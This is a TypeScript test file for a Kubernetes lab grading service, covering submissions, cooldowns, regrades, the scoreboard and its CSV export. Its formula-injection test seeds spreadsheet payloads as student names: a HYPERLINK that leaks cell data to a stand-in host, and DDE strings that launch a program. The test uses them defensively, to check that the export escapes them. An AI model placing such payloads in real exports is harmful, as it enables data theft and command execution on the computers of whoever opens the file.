// Submitting, joining, the cooldown, regrades, cancelling, and the scoreboard with its CSV export.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { agents, PASSWORD, setup, type Agent, type Harness } from './helpers.ts';
import { toLabView } from '../src/lib/labs.ts';
import { queryScoreboard } from '../src/lib/scoreboard.ts';
import { seed } from '../src/seed.ts';

let h: Harness;
let as: Awaited<ReturnType<typeof agents>>;
const SUBMIT =
  'mutation($l: ID!) { submitRun(labId: $l) { joined run { id namespace status queuePosition estimatedWaitSeconds } cooldown { tokensAvailable retryAfterSeconds } } }';

beforeAll(async () => {
  h = await setup({ COOLDOWN_BURST: '2', COOLDOWN_RATE_PER_MINUTE: '1' });
  as = await agents(h);
});
afterAll(async () => {
  await h?.close();
});

type SubmitData = {
  submitRun: {
    joined: boolean;
    run: {
      id: string;
      namespace: string;
      status: string;
      queuePosition: number | null;
      estimatedWaitSeconds: number | null;
    };
    cooldown: { tokensAvailable: number; retryAfterSeconds: number };
  };
};

describe('submitting', () => {
  it('two submissions for one namespace make one run (the second joins it)', async () => {
    const first = await as.student.gql<SubmitData>(SUBMIT, { l: h.labId });
    const second = await as.student.gql<SubmitData>(SUBMIT, { l: h.labId });
    expect(first.data?.submitRun.joined).toBe(false);
    expect(second.data?.submitRun.joined).toBe(true);
    expect(second.data?.submitRun.run.id).toBe(first.data?.submitRun.run.id);
    expect(await h.db.gradingRun.count({ where: { namespace: 'ann', labId: h.labId } })).toBe(1);
  });

  it('a queued run reports its queue position', async () => {
    const res = await as.student.gql<SubmitData>(SUBMIT, { l: h.labId });
    expect(res.data?.submitRun.run.queuePosition).toBeGreaterThanOrEqual(1);
  });

  it('an instructor regrade joins the queued run instead of duplicating it', async () => {
    const ann = h.seeded.students.find((s) => s.namespace === 'ann')!;
    const res = await as.instructor.gql<{ regrade: { joined: number; runs: { id: string }[] } }>(
      'mutation($l: ID!, $e: [ID!]) { regrade(labId: $l, enrollmentIds: $e) { joined runs { id } } }',
      { l: h.labId, e: [ann.enrollmentId] },
    );
    expect(res.data?.regrade.joined).toBe(1);
  });

  it('the cooldown refuses with the remaining time once the bucket is empty', async () => {
    // Burst 2: Ann spent one token above. Cancel her run so the next submit creates (and pays for) a new one.
    const active = await h.db.gradingRun.findFirstOrThrow({ where: { namespace: 'ann', status: 'QUEUED' } });
    await as.instructor.gql('mutation($id: ID!) { cancelRun(id: $id) { status } }', { id: active.id });
    // cancelRun refunded the student's token, so two more new runs fit in the bucket of 2.
    for (let i = 0; i < 2; i++) {
      const ok = await as.student.gql<SubmitData>(SUBMIT, { l: h.labId });
      expect(ok.data?.submitRun.joined).toBe(false);
      await h.db.gradingRun.update({
        where: { id: ok.data!.submitRun.run.id },
        data: { status: 'FAILED', finishedAt: new Date(), score: 10 },
      });
    }
    const refused = await as.student.gql<SubmitData>(SUBMIT, { l: h.labId });
    const err = refused.errors?.[0];
    expect({ code: err?.extensions?.code, wait: (err?.extensions?.retryAfterSeconds ?? 0) > 0 }).toEqual({
      code: 'COOLDOWN',
      wait: true,
    });
    expect(err?.message).toMatch(/again in \d+ s/);
  });

  it('myLabs shows the cooldown the page needs', async () => {
    const res = await as.student.gql<{
      myLabs: { lab: { id: string }; cooldown: { retryAfterSeconds: number } }[];
    }>('{ myLabs { lab { id } cooldown { retryAfterSeconds } } }');
    expect(res.data?.myLabs.find((m) => m.lab.id === h.labId)?.cooldown.retryAfterSeconds).toBeGreaterThan(0);
  });

  it('a disabled lab cannot be submitted', async () => {
    await as.admin.gql('mutation($l: ID!) { setLabEnabled(labId: $l, enabled: false) { id } }', {
      l: 'pv-claimref',
    });
    const res = await as.otherStudent.gql(SUBMIT, { l: 'pv-claimref' });
    expect(res.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    await as.admin.gql('mutation($l: ID!) { setLabEnabled(labId: $l, enabled: true) { id } }', {
      l: 'pv-claimref',
    });
  });

  it('bad input is refused with BAD_USER_INPUT naming the field', async () => {
    const res = await as.instructor.gql('query($l: ID!) { scoreboard(labId: $l, first: 0) { total } }', {
      l: h.labId,
    });
    expect({
      code: res.errors?.[0]?.extensions?.code,
      msg: /first/.test(res.errors?.[0]?.message ?? ''),
    }).toEqual({ code: 'BAD_USER_INPUT', msg: true });
  });
});

describe('scoreboard', () => {
  const checkIds = ['pv-claimref', 'pvc-bound', 'statefulset-ready', 'headless-dns', 'redis-persistence'];
  let names: string[];

  beforeAll(async () => {
    // A class of 6 with finished runs written the way the worker writes them.
    const extra = await seed(h.db, {
      courseSlug: 'k8s-storage',
      instructor: { email: 'teacher@example.edu', password: 'correct horse battery' },
      students: ['cat', 'dan', 'eve', 'fay'].map((n, i) => ({
        email: `${n}@example.edu`,
        name: `${n.toUpperCase()} Student`,
        studentId: `x${i}`,
        namespace: n,
      })),
    });
    const plan: Record<string, string[]> = {
      cat: ['PASS', 'PASS', 'PASS', 'PASS', 'PASS'],
      dan: ['PASS', 'FAIL', 'SKIPPED', 'SKIPPED', 'SKIPPED'],
      eve: ['PASS', 'PASS', 'FAIL', 'SKIPPED', 'SKIPPED'],
    };
    const points = [15, 15, 25, 20, 25];
    for (const s of extra.students) {
      const statuses = plan[s.namespace];
      if (!statuses) continue;
      // An older, worse run first: best score must still come from the max.
      for (const [age, st] of [
        [2, statuses.map(() => 'FAIL')],
        [1, statuses],
      ] as const) {
        const score = st.reduce((sum, x, i) => sum + (x === 'PASS' ? points[i]! : 0), 0);
        await h.db.gradingRun.create({
          data: {
            enrollmentId: s.enrollmentId,
            labId: h.labId,
            namespace: s.namespace,
            trigger: 'STUDENT',
            status: score === 100 ? 'PASSED' : 'FAILED',
            score,
            maxScore: 100,
            queuedAt: new Date(Date.now() - age * 60000),
            startedAt: new Date(Date.now() - age * 60000),
            finishedAt: new Date(Date.now() - age * 60000 + 5000),
            checks: {
              create: st.map((x, i) => ({
                checkId: checkIds[i]!,
                position: i,
                status: x as 'PASS',
                points: x === 'PASS' ? points[i]! : 0,
                maxPoints: points[i]!,
              })),
            },
          },
        });
      }
    }
    names = ['Ann Li', 'Bob Wu', 'CAT Student', 'DAN Student', 'EVE Student', 'FAY Student'];
  });

  type Sb = {
    scoreboard: {
      total: number;
      rows: {
        namespace: string;
        score: number | null;
        bestScore: number | null;
        cells: { checkId: string; status: string }[];
        student: { name: string };
        latestRun: { id: string } | null;
      }[];
      passRateByCheck: { checkId: string; passed: number; graded: number; rate: number }[];
      scoreDistribution: { from: number; to: number; count: number }[];
    };
  };
  const Q = `query($l: ID!, $f: ScoreboardFilter, $s: ScoreboardSort, $d: Boolean, $n: Int, $o: Int) {
    scoreboard(labId: $l, filter: $f, sort: $s, desc: $d, first: $n, offset: $o) {
      total rows { namespace score bestScore student { name } latestRun { id } cells { checkId status } }
      passRateByCheck { checkId passed graded rate } scoreDistribution { from to count } } }`;
  const sb = async (vars: Record<string, unknown>) =>
    (await as.instructor.gql<Sb>(Q, { l: h.labId, ...vars })).data!.scoreboard;

  it('lists every enrolled student sorted by name', async () => {
    expect((await sb({})).rows.map((r) => r.student.name)).toEqual(names);
  });
  it('shows the latest finished score and the best score', async () => {
    const dan = (await sb({ f: { search: 'dan' } })).rows[0]!;
    expect({ score: dan.score, best: dan.bestScore }).toEqual({ score: 15, best: 15 });
  });
  it('shows per-check status of the latest run', async () => {
    const eve = (await sb({ f: { search: 'eve@' } })).rows[0]!;
    expect(eve.cells.map((c) => c.status)).toEqual(['PASS', 'PASS', 'FAIL', 'SKIPPED', 'SKIPPED']);
  });
  it('filters by a check status', async () => {
    expect((await sb({ f: { checkId: 'pvc-bound', status: 'FAIL' } })).rows.map((r) => r.namespace)).toEqual([
      'dan',
    ]);
  });
  it('sorts by score descending and paginates', async () => {
    const page = await sb({ s: 'SCORE', d: true, n: 2, o: 0 });
    expect({ total: page.total, ns: page.rows.map((r) => r.namespace) }).toEqual({
      total: 6,
      ns: ['cat', 'eve'],
    });
  });
  it('reports the pass rate per check', async () => {
    const rate = (await sb({})).passRateByCheck.find((c) => c.checkId === 'pvc-bound')!;
    // Ann's cancelled/failed runs above have no check rows; cat and eve passed, dan failed.
    expect({ passed: rate.passed, graded: rate.graded }).toEqual({ passed: 2, graded: 3 });
  });
  it('reports the score distribution', async () => {
    const dist = (await sb({})).scoreDistribution;
    // Ann 10 and Dan 15 share [10, 20); Eve 30; Cat 100 lands in the last bucket; Bob and Fay were never graded.
    expect(dist.filter((b) => b.count > 0).map((b) => [b.from, b.count])).toEqual([
      [10, 2],
      [30, 1],
      [90, 1],
    ]);
  });

  it('the CSV export has the same rows and values as the scoreboard query', async () => {
    const res = await as.instructor.request(
      'GET',
      `/export/scoreboard/${h.labId}.csv?status=PASS&checkId=pv-claimref`,
    );
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const csv = parse(res.body, { columns: true }) as Record<string, string>[];
    const lab = toLabView(await h.db.lab.findUniqueOrThrow({ where: { id: h.labId } }));
    const data = await queryScoreboard(h.db, lab, { status: 'PASS', checkId: 'pv-claimref', first: null });
    expect(csv).toEqual(
      data.rows.map((r) => ({
        email: r.email,
        name: r.name,
        student_id: r.studentId ?? '',
        namespace: r.namespace,
        ...Object.fromEntries(r.cells.map((c) => [c.checkId, c.status])),
        score: r.score == null ? '' : String(r.score),
        max_score: String(r.maxScore),
        best_score: r.bestScore == null ? '' : String(r.bestScore),
        status: r.latestStatus ?? 'NOT_GRADED',
        last_graded_at: r.lastGradedAt ? r.lastGradedAt.toISOString() : '',
        final_score: r.finalScore == null ? '' : String(r.finalScore),
        counted_run_id: r.countedRunId ?? '',
        late_deduction_percent: String(r.latePercent),
        adjustment: String(r.adjustment),
      })),
    );
    expect(csv.map((r) => r.namespace)).toEqual(['cat', 'dan', 'eve']);
  });
});

describe('CSV formula injection', () => {
  it('cells a spreadsheet would run as formulas are exported as text', async () => {
    const evil = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '-2+3',
      '\t=1+2',
      '\r=1+2',
    ];
    await seed(h.db, {
      courseSlug: 'k8s-storage',
      instructor: { email: 'teacher@example.edu', name: 'Teacher', password: PASSWORD },
      students: evil.map((name, i) => ({
        email: `evil${i}@example.edu`,
        name,
        studentId: i === 0 ? '=1+2' : `evil-id-${i}`,
        namespace: `evil-${i}`,
      })),
    });
    const res = await as.instructor.request('GET', `/export/scoreboard/${h.labId}.csv?search=evil`);
    const rows = parse(res.body, { columns: true, relax_quotes: true }) as Record<string, string>[];
    const cells = rows.flatMap((r) => [r.name!, r.student_id!]);
    expect({
      rows: rows.length,
      dangerous: cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
      names: rows.map((r) => r.name).sort(),
      firstId: rows.find((r) => r.email === 'evil0@example.edu')?.student_id,
    }).toEqual({
      rows: evil.length,
      dangerous: [],
      names: evil.map((n) => `'${n}`).sort(),
      firstId: "'=1+2",
    });
  });
});

describe('audit', () => {
  it('records submissions, regrades, cancellations and lab changes', async () => {
    const actions = new Set((await h.db.auditEntry.findMany()).map((a) => a.action));
    expect(
      ['run.submit', 'run.join', 'run.regrade', 'run.cancel', 'lab.enabled', 'auth.login'].filter(
        (a) => !actions.has(a),
      ),
    ).toEqual([]);
  });
});

export type { Agent };

describe('every type resolves', () => {
  it('a query touching every object type and field answers without errors', async () => {
    const q = `{
      me { id email name role studentId }
      labs { id version title { zh en } enabled disruptiveEnabled maxScore checks { id title { zh en } points disruptive needs } }
      enrollments(first: 3) { id namespace course { id slug name } user { id email name role studentId } }
      runs(first: 5) { total nodes { id namespace trigger status score maxScore disruptive queuedAt startedAt finishedAt errorDetail graderVersion
        queuePosition estimatedWaitSeconds lab { id } student { email }
        checks { checkId title { en } status points maxPoints message hint { key zh en } evidence durationMs finishedAt } } }
      webhooks { id name url scopeKind labs namespaces active createdAt activeSecrets deliveries(first: 2) { id deliveryId receivedAt outcome reason runIds } }
      auditLog(first: 5) { id at actor action subject reason before after }
    }`;
    const res = await as.admin.gql<{ runs: { total: number } }>(q);
    expect({ errors: res.errors, hasRuns: (res.data?.runs.total ?? 0) > 0 }).toEqual({
      errors: undefined,
      hasRuns: true,
    });
  });
  it("a student's own view (myLabs, scoreboard-free) resolves fully", async () => {
    const res = await as.student.gql(
      `{ myLabs { lab { id maxScore } enrollment { id namespace course { slug } user { email } } latestRun { id status checks { checkId status } } bestScore cooldown { tokensAvailable retryAfterSeconds } } }`,
    );
    expect(res.errors).toBeUndefined();
  });
});
